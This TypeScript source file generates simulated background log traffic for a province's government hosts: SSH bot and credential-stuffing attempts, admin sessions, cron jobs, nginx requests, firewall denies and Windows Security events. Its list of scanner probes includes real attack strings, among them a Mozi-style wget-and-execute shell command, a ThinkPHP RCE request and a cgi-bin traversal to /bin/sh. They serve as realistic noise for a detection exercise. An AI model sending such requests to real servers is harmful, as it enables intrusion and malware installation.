/**
 * The province's ordinary traffic, as Poisson processes per host (rates in model.ts, sources in README.md): bots
 * and credential stuffing on internet-facing sshd, administrators (typos, then success, sudo), cron, nginx portals
 * (people, crawlers, scanners' probes, ordinary 4xx), firewall denies, Windows Security events.
 *
 * Each source is a generator: `fire(t, out)` appends the lines of one occurrence at simulated time t and returns
 * when it fires next. Each has its own Rng (seed + index), so the stream depends only on the seed and the window.
 */
import { BROWSERS, CRAWLERS, iptablesDrop, localHour, nginx, PRI, syslog, winEvent } from './lines.js';
import { type Agency, type Host, type Rates, Rng, type SimEvent } from './model.js';

/** A background source: fires at `next`, appends its lines, returns its next time. */
export interface Generator {
  next: number;
  fire(t: number, out: SimEvent[]): number;
}

const BOT_USERS = [
  'root',
  'root',
  'root',
  'root',
  'admin',
  'test',
  'user',
  'ubuntu',
  'oracle',
  'postgres',
  'git',
  'ftpuser',
  'guest',
  'deploy',
  'pi',
  'support',
  'mysql',
  'www',
  'dev',
  'hadoop',
  'test1',
  'student',
  'minecraft',
  'steam',
  'debian',
  'centos',
  'administrator',
  'nagios',
  'tomcat',
  'elastic',
  'es',
  'sol',
  'solana',
  'validator',
  'jenkins',
];
/** Daytime curve of people's activity (local hour -> multiplier, mean ~1). */
const DAY_CURVE = [
  0.25, 0.25, 0.25, 0.25, 0.25, 0.25, 0.25, 0.8, 1.8, 1.8, 1.8, 1.8, 1.2, 1.2, 1.8, 1.8, 1.8, 1.8, 0.8, 0.8, 0.8, 0.8,
  0.8, 0.4,
];
const CURVE_MAX = 1.8;
const VN_PREFIXES = [
  '113.161',
  '113.172',
  '14.177',
  '14.231',
  '171.241',
  '171.253',
  '27.72',
  '27.67',
  '42.114',
  '1.53',
  '116.110',
  '123.24',
];

const vnIp = (r: Rng) => `${r.pick(VN_PREFIXES)}.${r.int(0, 255)}.${r.int(1, 254)}`;
const port = (r: Rng) => r.int(32768, 60999);

/** A line with its own (simulated) time. */
type Timed = [number, string];

function sshdLine(t: number, host: string, pid: number, msg: string, pri: number = PRI.authprivInfo): Timed {
  return [t, syslog(t, pri, host, 'sshd', pid, msg)];
}

function sys(t: number, pri: number, host: string, app: string, pid: number | null, msg: string): Timed {
  return [t, syslog(t, pri, host, app, pid, msg)];
}

/** One failed attempt as OpenSSH 8/9 on Ubuntu logs it (PAM line included for real accounts). */
function failedAttempt(t: number, h: string, pid: number, user: string, ip: string, p: number, out: Timed[]): void {
  const invalid = !['root', 'admin', 'ubuntu', 'deploy', 'git', 'postgres', 'mysql', 'www'].includes(user);
  if (invalid) {
    out.push(sshdLine(t, h, pid, `Invalid user ${user} from ${ip} port ${p}`));
    out.push(sshdLine(t + 2000, h, pid, `Failed password for invalid user ${user} from ${ip} port ${p} ssh2`));
  } else {
    out.push(
      sshdLine(
        t + 1500,
        h,
        pid,
        `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=${user}`,
        PRI.authprivNotice,
      ),
    );
    out.push(sshdLine(t + 2000, h, pid, `Failed password for ${user} from ${ip} port ${p} ssh2`));
  }
}

interface Ctx {
  agencies: Agency[];
  rates: Rates;
  /** Simulated start of the window (epoch ms). */
  t0: number;
}

const push = (out: SimEvent[], agency: number, lines: Timed[]) => {
  for (const [t, line] of lines) out.push({ t, agency, transport: 'tcp', line, attack: -1 });
};

/** Bots on every internet-facing sshd of the province, with addresses reused across hosts (sweeps). */
function sshBots(ctx: Ctx, rng: Rng): Generator {
  const exposed: [number, Host][] = [];
  ctx.agencies.forEach((a, i) => {
    for (const h of a.hosts) if (h.sshExposed) exposed.push([i, h]);
  });
  const sessionsPerHour = ((ctx.rates.sshBotAttemptsPerDay / 2.5) * exposed.length) / 24;
  const pool: string[] = Array.from({ length: 300 }, () => rng.publicIp());
  let pid = 20000;
  return {
    next: ctx.t0 + rng.gapMs(sessionsPerHour),
    fire(t, out) {
      const [ai, host] = rng.pick(exposed);
      const slot = rng.int(0, pool.length - 1);
      if (rng.chance(0.25)) pool[slot] = rng.publicIp();
      const ip = pool[slot]!;
      const lines: Timed[] = [];
      const p = port(rng);
      pid = pid >= 65000 ? 20000 : pid + rng.int(1, 40);
      if (rng.chance(0.15)) {
        // Banner grabbers and scanners that never authenticate.
        lines.push(sshdLine(t, host.name, pid, `Connection closed by ${ip} port ${p} [preauth]`));
      } else {
        const n = rng.chance(0.5) ? 1 : rng.int(2, 6);
        let tt = t;
        for (let k = 0; k < n; k++) {
          failedAttempt(tt, host.name, pid, rng.pick(BOT_USERS), ip, p, lines);
          tt += rng.int(2000, 6000);
        }
        lines.push(sshdLine(tt, host.name, pid, `Received disconnect from ${ip} port ${p}:11: Bye Bye [preauth]`));
      }
      push(out, ai, lines);
      return t + rng.gapMs(sessionsPerHour);
    },
  };
}

/** Credential stuffing runs: one bot, 15-60 attempts on one host over 3-15 minutes (each attempt its own event). */
function sshStuffing(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const perHour = ctx.rates.sshStuffingRunsPerDay / 24;
  let run: { ip: string; left: number; gap: number; users: string[] } | null = null;
  let pid = 40000;
  return {
    next: ctx.t0 + rng.gapMs(perHour),
    fire(t, out) {
      if (!run) {
        const n = rng.int(15, 60);
        const span = rng.int(180_000, 900_000);
        const users = rng.chance(0.6) ? ['root'] : Array.from({ length: rng.int(3, 12) }, () => rng.pick(BOT_USERS));
        run = { ip: rng.publicIp(), left: n, gap: span / n, users };
      }
      const lines: Timed[] = [];
      pid = pid >= 65000 ? 40000 : pid + rng.int(1, 9);
      failedAttempt(t, host.name, pid, rng.pick(run.users), run.ip, port(rng), lines);
      push(out, ai, lines);
      if (--run.left > 0) return t + run.gap * (0.5 + rng.next());
      run = null;
      return t + rng.gapMs(perHour);
    },
  };
}

const ADMIN_SUDO = [
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/systemctl status nginx',
  '/usr/bin/apt update',
  '/usr/bin/apt upgrade -y',
  '/usr/bin/tail -n 200 /var/log/nginx/error.log',
  '/usr/bin/journalctl -u nginx --since today',
  '/usr/bin/docker ps',
  '/usr/bin/less /var/log/syslog',
  '/usr/bin/cp /etc/nginx/sites-available/portal /root/portal.bak',
  '/usr/bin/vim /etc/nginx/sites-available/portal',
  '/usr/sbin/nginx -t',
  '/usr/bin/df -h',
  '/usr/bin/du -sh /var/log',
  '/usr/bin/mysqldump --all-databases -r /backup/all.sql',
  '/usr/bin/certbot renew',
];

/** Administrators' sessions on one Linux host: typos then success, sudo, session close. */
function adminSessions(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const a = ctx.agencies[ai]!;
  const peak = (ctx.rates.adminLoginsPerDay / 24) * CURVE_MAX;
  let pid = 30000;
  return {
    next: ctx.t0 + rng.gapMs(peak),
    fire(t, out) {
      if (rng.next() * CURVE_MAX > DAY_CURVE[localHour(t)]!) return t + rng.gapMs(peak);
      const user = rng.pick(a.admins);
      const ip = rng.pick(a.adminIps);
      const h = host.name;
      const lines: Timed[] = [];
      pid = pid >= 65000 ? 30000 : pid + rng.int(1, 50);
      let tt = t;
      const password = rng.chance(0.4);
      if (password && rng.chance(ctx.rates.adminTypoShare / 0.4)) {
        for (let k = rng.int(1, 2); k > 0; k--) {
          lines.push(
            sshdLine(
              tt,
              h,
              pid,
              `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=${user}`,
              PRI.authprivNotice,
            ),
          );
          lines.push(sshdLine(tt + 2000, h, pid, `Failed password for ${user} from ${ip} port ${port(rng)} ssh2`));
          tt += rng.int(4000, 12000);
        }
      }
      const p = port(rng);
      lines.push(
        sshdLine(
          tt,
          h,
          pid,
          password
            ? `Accepted password for ${user} from ${ip} port ${p} ssh2`
            : `Accepted publickey for ${user} from ${ip} port ${p} ssh2: ED25519 SHA256:${Buffer.from(user + h)
                .toString('base64')
                .slice(0, 43)}`,
        ),
      );
      lines.push(sshdLine(tt, h, pid, `pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`));
      lines.push(sys(tt, PRI.authInfo, h, 'systemd-logind', 812, `New session ${rng.int(100, 9999)} of user ${user}.`));
      for (let k = rng.int(...ctx.rates.sudoPerSession); k > 0; k--) {
        tt += rng.int(20_000, 600_000);
        const cmd = rng.pick(ADMIN_SUDO);
        if (rng.chance(0.05)) {
          lines.push(
            sys(
              tt,
              PRI.authprivNotice,
              h,
              'sudo',
              null,
              `pam_unix(sudo:auth): authentication failure; logname=${user} uid=1000 euid=0 tty=/dev/pts/0 ruser=${user} rhost=  user=${user}`,
            ),
          );
          tt += 5000;
        }
        lines.push(
          sys(
            tt,
            PRI.authprivNotice,
            h,
            'sudo',
            null,
            `   ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${cmd}`,
          ),
        );
        lines.push(
          sys(
            tt,
            PRI.authprivInfo,
            h,
            'sudo',
            null,
            `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1000)`,
          ),
        );
        lines.push(
          sys(tt + 3000, PRI.authprivInfo, h, 'sudo', null, 'pam_unix(sudo:session): session closed for user root'),
        );
      }
      tt += rng.int(30_000, 1_200_000);
      lines.push(sshdLine(tt, h, pid, `Received disconnect from ${ip} port ${p}:11: disconnected by user`));
      lines.push(sshdLine(tt, h, pid, `pam_unix(sshd:session): session closed for user ${user}`));
      push(out, ai, lines);
      return t + rng.gapMs(peak);
    },
  };
}

/** Debian/Ubuntu's packaged crontabs: sysstat every 10 min, cron.hourly at :17, PHP session cleanup at :09/:39. */
function cron(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const minute = 60_000;
  const first = Math.ceil(ctx.t0 / minute) * minute;
  let pid = 10000;
  return {
    next: first,
    fire(t, out) {
      const m = new Date(t).getUTCMinutes();
      const jobs: string[] = [];
      if (m % 10 === 0) jobs.push('command -v debian-sa1 > /dev/null && debian-sa1 1 1');
      if (m === 17) jobs.push('cd / && run-parts --report /etc/cron.hourly');
      if (host.kind === 'web' && (m === 9 || m === 39))
        jobs.push(
          '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
        );
      const lines: Timed[] = [];
      for (const cmd of jobs) {
        pid = pid >= 65000 ? 10000 : pid + rng.int(1, 300);
        const tt = t + rng.int(0, 1500);
        lines.push(
          sys(
            tt,
            PRI.authprivInfo,
            host.name,
            'CRON',
            pid,
            'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
          ),
        );
        lines.push(sys(tt, PRI.cronInfo, host.name, 'CRON', pid + 1, `(root) CMD (${cmd})`));
        lines.push(
          sys(
            tt + 1000,
            PRI.authprivInfo,
            host.name,
            'CRON',
            pid,
            'pam_unix(cron:session): session closed for user root',
          ),
        );
      }
      if (lines.length) push(out, ai, lines);
      return t + minute;
    },
  };
}

const PAGES = [
  '/',
  '/tin-tuc',
  '/tin-tuc/chuyen-doi-so-cap-tinh-nam-2026-{n}.html',
  '/tin-tuc/thong-bao-lich-tiep-cong-dan-thang-12-{n}.html',
  '/thu-tuc-hanh-chinh?linhvuc={n}&page={p}',
  '/van-ban?so={n}%2F2026%2FQD-UBND',
  '/van-ban?sort=ngay_ban_hanh&order=desc&page={p}',
  '/tim-kiem?q=gi%E1%BA%A5y+ph%C3%A9p+x%C3%A2y+d%E1%BB%B1ng',
  '/tim-kiem?q=%22b%E1%BA%A3n+sao+ch%E1%BB%A9ng+th%E1%BB%B1c%22',
  '/tim-kiem?q=select+tr%C6%B0%E1%BB%9Dng+h%E1%BB%8Dc&page={p}',
  '/dichvucong/tra-cuu?mahoso=H40.{n}-261207-00{p}',
  '/api/thong-bao?limit=10&offset={p}0',
  '/lien-he',
  '/gioi-thieu/co-cau-to-chuc',
];
const STATIC = [
  '/static/css/main.css?v=3',
  '/static/js/app.min.js?v=3',
  '/images/banner-2026.jpg',
  '/images/logo.png',
  '/favicon.ico',
];
const PROBES: [string, string, number][] = [
  ['GET', '/wp-login.php', 404],
  ['GET', '/.env', 404],
  ['GET', '/.git/config', 404],
  ['GET', '/phpmyadmin/', 404],
  ['GET', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404],
  ['POST', '/boaform/admin/formLogin', 404],
  ['GET', '/actuator/health', 404],
  ['GET', '/owa/auth/logon.aspx', 404],
  ['POST', '/HNAP1/', 404],
  ['GET', '/solr/admin/info/system?wt=json', 404],
  ['GET', '/?XDEBUG_SESSION_START=phpstorm', 200],
  ['GET', '/admin/config.php', 404],
  ['GET', '/server-status', 403],
  [
    'GET',
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
    404,
  ],
  ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws', 404],
];
const SCANNER_UAS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  '-',
];

const fill = (s: string, r: Rng) =>
  s
    .replace('{n}', String(r.int(1, 999)))
    .replace('{p}', String(r.int(1, 9)))
    .replace('{ip}', r.publicIp());

/** An nginx portal: people (daytime curve), crawlers, scanners' probes, ordinary 4xx. */
function web(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const peak = (ctx.rates.webRequestsPerDay / 24) * CURVE_MAX;
  const { webCrawlerShare: cs, webScannerShare: ss, web4xxShare: fs } = ctx.rates;
  const scanners = Array.from({ length: 40 }, () => rng.publicIp());
  return {
    next: ctx.t0 + rng.gapMs(peak),
    fire(t, out) {
      const u = rng.next();
      const curve = DAY_CURVE[localHour(t)]! / CURVE_MAX;
      let line: string | null = null;
      if (u < cs * curve) {
        const ua = rng.pick(CRAWLERS);
        const ip = ua.includes('Googlebot')
          ? `66.249.66.${rng.int(1, 254)}`
          : ua.includes('bingbot')
            ? `40.77.167.${rng.int(1, 254)}`
            : ua.includes('coccoc')
              ? `123.30.175.${rng.int(1, 254)}`
              : rng.publicIp();
        const path = rng.chance(0.05) ? rng.pick(['/robots.txt', '/sitemap.xml']) : fill(rng.pick(PAGES), rng);
        const status = rng.chance(0.05) ? 404 : rng.chance(0.04) ? 301 : 200;
        line = nginx(t, host.name, ip, 'GET', path, status, rng.int(300, 60_000), ua);
      } else if (u < (cs + ss) * curve) {
        const [m, path, status] = rng.pick(PROBES);
        line = nginx(
          t,
          host.name,
          rng.pick(scanners),
          m,
          fill(path, rng),
          status,
          rng.int(150, 600),
          rng.pick(SCANNER_UAS),
        );
        if (rng.chance(0.02)) scanners[rng.int(0, scanners.length - 1)] = rng.publicIp();
      } else if (u < (cs + ss + fs) * curve) {
        const [path, status] = rng.pick([
          ['/images/tin-tuc/2019/anh-cu.jpg', 404],
          ['/favicon.ico', 404],
          ['/admin/', 403],
          ['/api/ho-so?token=expired', 401],
          ['/tin-tuc/bai-da-xoa-123.html', 404],
          ['/dichvucong/nop-ho-so', 400],
          ['/van-ban?page=', 499],
        ] as [string, number][]);
        line = nginx(t, host.name, vnIp(rng), 'GET', path, status, rng.int(150, 600), rng.pick(BROWSERS));
      } else if (u < curve) {
        const ip = vnIp(rng);
        const stat = rng.chance(0.4);
        const path = stat ? rng.pick(STATIC) : fill(rng.pick(PAGES), rng);
        const status = stat && rng.chance(0.3) ? 304 : 200;
        const post = !stat && rng.chance(0.03);
        line = nginx(
          t,
          host.name,
          ip,
          post ? 'POST' : 'GET',
          post ? '/dang-nhap' : path,
          post ? 302 : status,
          rng.int(200, 90_000),
          rng.pick(BROWSERS),
          `https://${host.name}.gov.vn/`,
        );
      }
      if (line) out.push({ t, agency: ai, transport: 'tcp', line, attack: -1 });
      return t + rng.gapMs(peak);
    },
  };
}

const FW_PORTS = [
  23, 23, 23, 2323, 22, 22, 445, 445, 3389, 3389, 8080, 5555, 1433, 3306, 6379, 5900, 8443, 37215, 52869, 81, 8081,
  9000, 7547, 60001, 5060, 161, 123, 1900, 11211, 25,
];

/** An agency firewall's denies: internet background radiation, mostly one-port-per-source scanners. */
function firewall(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const perHour = ctx.rates.firewallDeniesPerDay / 24;
  const a = ctx.agencies[ai]!;
  const targets = a.hosts.filter((h) => h.kind !== 'firewall').map((h) => h.ip);
  const research = Array.from({ length: 20 }, () => rng.publicIp());
  let id = rng.int(1, 60000);
  return {
    next: ctx.t0 + rng.gapMs(perHour),
    fire(t, out) {
      const src = rng.chance(0.15) ? rng.pick(research) : rng.publicIp();
      const dpt = rng.chance(0.12) ? rng.int(1024, 65535) : rng.pick(FW_PORTS);
      const proto = [5060, 161, 123, 1900, 11211].includes(dpt) ? 'UDP' : 'TCP';
      id = (id + rng.int(1, 500)) % 65536;
      out.push({
        t,
        agency: ai,
        transport: 'tcp',
        line: iptablesDrop(t, host.name, src, rng.pick(targets), proto, port(rng), dpt, id),
        attack: -1,
      });
      return t + rng.gapMs(perHour);
    },
  };
}

const SID = 'S-1-5-21-3623811015-3361044348-30300820';

/** A Windows server's Security log through NXLog (HTTP intake): logons, logoffs, privileges, processes. */
function windows(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const a = ctx.agencies[ai]!;
  const peak = (ctx.rates.windowsEventsPerDay / 24) * CURVE_MAX;
  const domain = a.slug.toUpperCase();
  const hostname = `${host.name}.${a.slug}.gov.vn`;
  const users = ['nguyenvana', 'tranthib', 'lethic', 'phamvand', 'svc_backup', 'svc_sql'];
  let record = rng.int(100_000, 900_000);
  return {
    next: ctx.t0 + rng.gapMs(peak),
    fire(t, out) {
      if (rng.next() * CURVE_MAX > Math.max(0.6, DAY_CURVE[localHour(t)]!)) return t + rng.gapMs(peak);
      const u = rng.next();
      const user = rng.pick(users);
      const sid = `${SID}-${1100 + users.indexOf(user)}`;
      const ip = `${host.ip.split('.').slice(0, 3).join('.')}.${rng.int(50, 120)}`;
      const lid = `0x${rng.int(0x10000, 0xfffff).toString(16)}`;
      const base = { TargetUserSid: sid, TargetUserName: user, TargetDomainName: domain, TargetLogonId: lid };
      let ev: string;
      record++;
      if (u < 0.35)
        ev = winEvent(t, hostname, 4624, record, {
          ...base,
          LogonType: rng.pick(['3', '3', '3', '5', '2', '10']),
          LogonProcessName: 'Kerberos',
          AuthenticationPackageName: 'Kerberos',
          IpAddress: ip,
          IpPort: String(port(rng)),
          WorkstationName: '-',
        });
      else if (u < 0.65) ev = winEvent(t, hostname, 4634, record, { ...base, LogonType: '3' });
      else if (u < 0.8)
        ev = winEvent(t, hostname, 4672, record, {
          SubjectUserSid: sid,
          SubjectUserName: user,
          SubjectDomainName: domain,
          SubjectLogonId: lid,
          PrivilegeList: 'SeBackupPrivilege\n\t\t\tSeRestorePrivilege',
        });
      else if (u < 0.97) {
        const [image, cmd] = rng.pick([
          ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
          ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
          [
            'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe',
            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob',
          ],
          [
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\sao-luu-hang-ngay.ps1',
          ],
          [
            'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
            'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
          ],
        ] as [string, string][]);
        ev = winEvent(t, hostname, 4688, record, {
          SubjectUserSid: 'S-1-5-18',
          SubjectUserName: `${host.name}$`,
          SubjectDomainName: domain,
          SubjectLogonId: '0x3e7',
          NewProcessId: `0x${rng.int(0x100, 0xffff).toString(16)}`,
          NewProcessName: image,
          TokenElevationType: '%%1936',
          ProcessId: '0x2c4',
          CommandLine: cmd,
          ParentProcessName: 'C:\\Windows\\System32\\services.exe',
        });
      } else
        ev = winEvent(
          t,
          hostname,
          4625,
          record,
          {
            SubjectUserSid: 'S-1-0-0',
            SubjectUserName: '-',
            TargetUserSid: 'S-1-0-0',
            TargetUserName: user,
            TargetDomainName: domain,
            Status: '0xc000006d',
            SubStatus: '0xc000006a',
            FailureReason: '%%2313',
            LogonType: rng.pick(['2', '3', '10']),
            LogonProcessName: 'NtLmSsp ',
            AuthenticationPackageName: 'NTLM',
            WorkstationName: `PC-${rng.int(1, 60)}`,
            IpAddress: ip,
            IpPort: String(port(rng)),
          },
          true,
        );
      out.push({ t, agency: ai, transport: 'http', line: ev, attack: -1 });
      return t + rng.gapMs(peak);
    },
  };
}

/** Every background generator of the province, each with its own seeded Rng. */
export function backgroundGenerators(agencies: Agency[], rates: Rates, t0: number, seed: number): Generator[] {
  const ctx: Ctx = { agencies, rates, t0 };
  let k = 0;
  const r = () => new Rng(seed * 7919 + ++k * 104729);
  const gens: Generator[] = [sshBots(ctx, r())];
  agencies.forEach((a, ai) => {
    for (const h of a.hosts) {
      if (h.kind === 'firewall') gens.push(firewall(ctx, r(), ai, h));
      else if (h.kind === 'windows') gens.push(windows(ctx, r(), ai, h));
      else {
        gens.push(cron(ctx, r(), ai, h), adminSessions(ctx, r(), ai, h));
        if (h.sshExposed) gens.push(sshStuffing(ctx, r(), ai, h));
        if (h.kind === 'web') gens.push(web(ctx, r(), ai, h));
      }
    }
  });
  return gens;
}
